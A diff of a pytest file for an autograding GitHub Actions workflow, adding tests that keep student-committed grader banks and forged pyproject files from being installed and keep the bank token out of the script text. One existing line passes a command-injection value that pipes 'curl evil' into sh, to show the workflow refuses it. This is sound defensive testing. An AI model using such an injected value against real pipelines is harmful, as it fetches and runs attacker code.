@@ -119,33 +119,76 @@ def test_a_grader_package_that_cannot_be_quoted_is_refused() -> None:
         workflow_yaml('tf-grader"; curl evil | sh; "')
 
 
-def grade_step(material: Path) -> str:
+def grade_step(material: Path, name: str = "Grade") -> str:
     workflow = yaml.safe_load((material / ".github" / "workflows" / "autograde.yml").read_text())
-    [step] = [s for s in workflow["jobs"]["grade"]["steps"] if s.get("id") == "grader"]
+    [step] = [s for s in workflow["jobs"]["grade"]["steps"] if s.get("name") == name]
     return str(step["run"])
+
+
+@pytest.mark.parametrize("instructor_bank", [False, True])
+def test_the_grader_is_never_installed_from_the_students_tree(
+    material: Path, tmp_path: Path, instructor_bank: bool
+) -> None:
+    """A .grader-bank/pyproject.toml the student commits would install their own grader."""
+    workspace, temp, bin_dir = tmp_path / "workspace", tmp_path / "temp", tmp_path / "bin"
+    for folder in (workspace / ".grader-bank", temp / "grader" / "bin", bin_dir):
+        folder.mkdir(parents=True)
+    (workspace / ".grader-bank" / "pyproject.toml").write_text("[project]\nname = 'forged'\n")
+    if instructor_bank:
+        (temp / "grader-bank").mkdir()
+        (temp / "grader-bank" / "pyproject.toml").write_text("[project]\nname = 'bank'\n")
+    (bin_dir / "python").write_text('#!/bin/sh\n[ "$1" = -m ] && [ "$2" = venv ]\n')
+    (temp / "grader" / "bin" / "pip").write_text('#!/bin/sh\necho "$*" > "$RUNNER_TEMP/pip"\n')
+    for script in (bin_dir / "python", temp / "grader" / "bin" / "pip"):
+        script.chmod(0o755)
+    environment = {
+        "PATH": f"{bin_dir}:/usr/bin:/bin",
+        "RUNNER_TEMP": str(temp),
+        "GITHUB_WORKSPACE": str(workspace),
+        "GRADER_PACKAGE": "tf-grader==9",
+    }
+    subprocess.run(
+        ["bash", "-e", "-c", grade_step(material, "Install the grader")],
+        cwd=workspace,
+        env=environment,
+        check=True,
+    )
+    installed = (temp / "pip").read_text().split()[-1]
+    assert installed == (str(temp / "grader-bank") if instructor_bank else "tf-grader==9")
+
+
+def test_the_instructors_bank_is_cloned_outside_the_workspace(material: Path) -> None:
+    step = grade_step(material, "Check out the instructor's bank")
+    assert '"$RUNNER_TEMP/grader-bank"' in step and "GITHUB_WORKSPACE" not in step
+    assert "$GRADER_BANK_TOKEN" in step and "${{" not in step  # no secret in the script text
 
 
 @pytest.mark.parametrize(
     ("event", "bank", "expected"),
     [
-        ("pull_request", False, "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
-        ("push", False, "ci --junit {temp}/grader-junit.xml --lang ko --all|GRADER_BANK="),
+        ("pull_request", "", "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
+        ("push", "", "ci --junit {temp}/grader-junit.xml --lang ko --all|GRADER_BANK="),
         (
             "pull_request",
-            True,
-            "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK={workspace}/.grader-bank",
+            "temp",
+            "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK={temp}/grader-bank",
         ),
+        # A bank the student commits is never taken for the instructor's.
+        ("pull_request", "workspace", "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
     ],
 )
 def test_the_grade_step_runs_grader_ci_as_the_event_needs(
-    material: Path, tmp_path: Path, event: str, bank: bool, expected: str
+    material: Path, tmp_path: Path, event: str, bank: str, expected: str
 ) -> None:
     """The step's shell, run with stand-ins for sudo and the grader that record their call."""
     workspace, temp, bin_dir = tmp_path / "workspace", tmp_path / "temp", tmp_path / "bin"
     for folder in (workspace, temp / "grader" / "bin", bin_dir):
         folder.mkdir(parents=True)
-    if bank:
+    if bank == "temp":
+        (temp / "grader-bank" / "exercises").mkdir(parents=True)
+    elif bank == "workspace":
         (workspace / ".grader-bank" / "exercises").mkdir(parents=True)
+        (workspace / ".grader-bank" / "solutions").mkdir(parents=True)
     (bin_dir / "sudo").write_text('#!/bin/sh\nshift\nexec "$@"\n')
     (temp / "grader" / "bin" / "grader").write_text(
         '#!/bin/sh\necho "$*|GRADER_BANK=$GRADER_BANK" > "$RUNNER_TEMP/called"\n'
